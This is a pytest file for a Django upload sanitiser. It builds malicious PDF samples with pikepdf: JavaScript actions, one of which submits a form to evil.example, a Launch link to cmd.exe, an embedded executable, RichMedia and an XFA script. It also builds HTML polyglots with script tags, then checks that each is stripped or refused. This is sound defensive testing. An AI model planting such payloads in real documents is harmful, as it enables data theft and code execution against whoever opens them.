"""PDFs (issue 9, item 12): written anew without scripts, actions, embedded files, media or
XML forms; HTML before the header is refused and after the end is dropped; what does not
parse is refused. The malicious samples are real PDFs built here with pikepdf."""

from __future__ import annotations

import io

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from pikepdf import Array, Dictionary, Name, String

from governance.attachments import PDF_ACTIVE_ACTIONS, PDF_ACTIVE_KEYS, clean_upload
from tests.cases import submit
from tests.uploads import PDF, pdf_bytes, upload

pytestmark = pytest.mark.usefixtures("english")

SCRIPT = b"app.alert('owned'); this.submitForm('http://evil.example/')"


def _build(change) -> bytes:
    pdf = pikepdf.open(io.BytesIO(pdf_bytes(text="Invoice")))
    change(pdf)
    buffer = io.BytesIO()
    pdf.save(buffer, compress_streams=False)
    return buffer.getvalue()


def _js_action(pdf: pikepdf.Pdf) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=pdf.make_stream(SCRIPT))


def open_action(pdf):
    pdf.Root.OpenAction = _js_action(pdf)


def names_javascript(pdf):
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("run"), pdf.make_indirect(_js_action(pdf))]))
    )


def page_additional_actions(pdf):
    pdf.pages[0].obj.AA = Dictionary(O=_js_action(pdf))
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=String(SCRIPT.decode())))


def launch_link(pdf):
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=Array([0, 0, 100, 100]),
        A=Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"))),
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])


def embedded_file(pdf):
    payload = pdf.make_stream(b"MZ\x90\x00 an executable", Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F=String("invoice.exe"), EF=Dictionary(F=payload))
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("x"), spec])))


def rich_media(pdf):
    annotation = Dictionary(
        Type=Name.Annot,
        Subtype=Name.RichMedia,
        Rect=Array([0, 0, 50, 50]),
        RichMediaContent=Dictionary(Assets=Dictionary()),
        RichMediaSettings=Dictionary(),
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])


def xfa_form(pdf):
    xfa = pdf.make_stream(b"<xdp:xdp><script>xfa.host.messageBox('owned')</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)


MALICIOUS = [
    open_action,
    names_javascript,
    page_additional_actions,
    launch_link,
    embedded_file,
    rich_media,
    xfa_form,
]


def active_keys(data: bytes) -> set[str]:
    """Every active key or annotation left anywhere in the parsed document."""
    found: set[str] = set()

    def visit(value):
        if isinstance(value, pikepdf.Stream):
            value = value.stream_dict
        if isinstance(value, Dictionary):
            found.update(set(value.keys()) & PDF_ACTIVE_KEYS)
            if str(value.get("/Subtype", "")) in ("/RichMedia", "/FileAttachment"):
                found.add(str(value.Subtype))
            if str(value.get("/S", "")) in PDF_ACTIVE_ACTIONS:
                found.add(str(value.S))
            children = [child for _key, child in value.items()]
        elif isinstance(value, Array):
            children = list(value)
        else:
            return
        for child in children:
            if isinstance(child, Dictionary | Array) and not child.is_indirect:
                visit(child)

    with pikepdf.open(io.BytesIO(data)) as pdf:
        visit(pdf.trailer)
        for item in pdf.objects:
            visit(item)
    return found


@pytest.mark.parametrize("attack", MALICIOUS, ids=lambda f: f.__name__)
def test_active_content_is_removed_and_the_page_kept(attack):
    source = _build(attack)
    assert active_keys(source)  # the sample really is malicious
    cleaned = clean_upload(upload("invoice.pdf", source, "application/pdf"))
    data = cleaned.content.read()
    assert active_keys(data) == set()
    assert b"app.alert" not in data and b"cmd.exe" not in data and b"MZ\x90" not in data
    assert b"<script>" not in data
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert len(pdf.pages) == 1
        assert b"(Invoice) Tj" in pdf.pages[0].Contents.read_bytes()


def test_html_after_the_end_is_dropped():
    polyglot = PDF + b"\n<html><body><script>alert(document.cookie)</script></body></html>\n"
    data = clean_upload(upload("page.pdf", polyglot)).content.read()
    assert b"<script>" not in data and b"<html>" not in data
    assert data.rstrip().endswith(b"%%EOF")


def test_html_in_a_comment_is_not_carried_over():
    polyglot = PDF.replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1)
    data = clean_upload(upload("page.pdf", polyglot)).content.read()
    assert b"<script>" not in data


def test_html_before_the_header_is_refused():
    polyglot = b"<html><script>alert(1)</script><!--\n" + PDF
    with pytest.raises(ValidationError) as refused:
        clean_upload(upload("page.pdf", polyglot))
    assert "page.pdf" in refused.value.messages[0]


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n<html><script>alert(1)</script></html>\n",
        b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
        PDF[: len(PDF) // 3],
    ],
    ids=["html-with-a-pdf-header", "no-page-tree", "cut-short"],
)
def test_what_does_not_parse_as_a_pdf_is_refused(data):
    with pytest.raises(ValidationError) as refused:
        clean_upload(upload("doc.pdf", data))
    assert "not a readable" in refused.value.messages[0]


def test_an_encrypted_pdf_is_refused():
    pdf = pikepdf.open(io.BytesIO(PDF))
    buffer = io.BytesIO()
    pdf.save(buffer, encryption=pikepdf.Encryption(owner="o", user="u"))
    with pytest.raises(ValidationError):
        clean_upload(upload("locked.pdf", buffer.getvalue()))


def test_the_stored_file_is_the_rewritten_one(city, people):
    case = submit(city, people, files=[upload("a.pdf", _build(open_action))])
    (document,) = case.attachments.all()
    with document.file.open("rb") as stored:
        assert active_keys(stored.read()) == set()
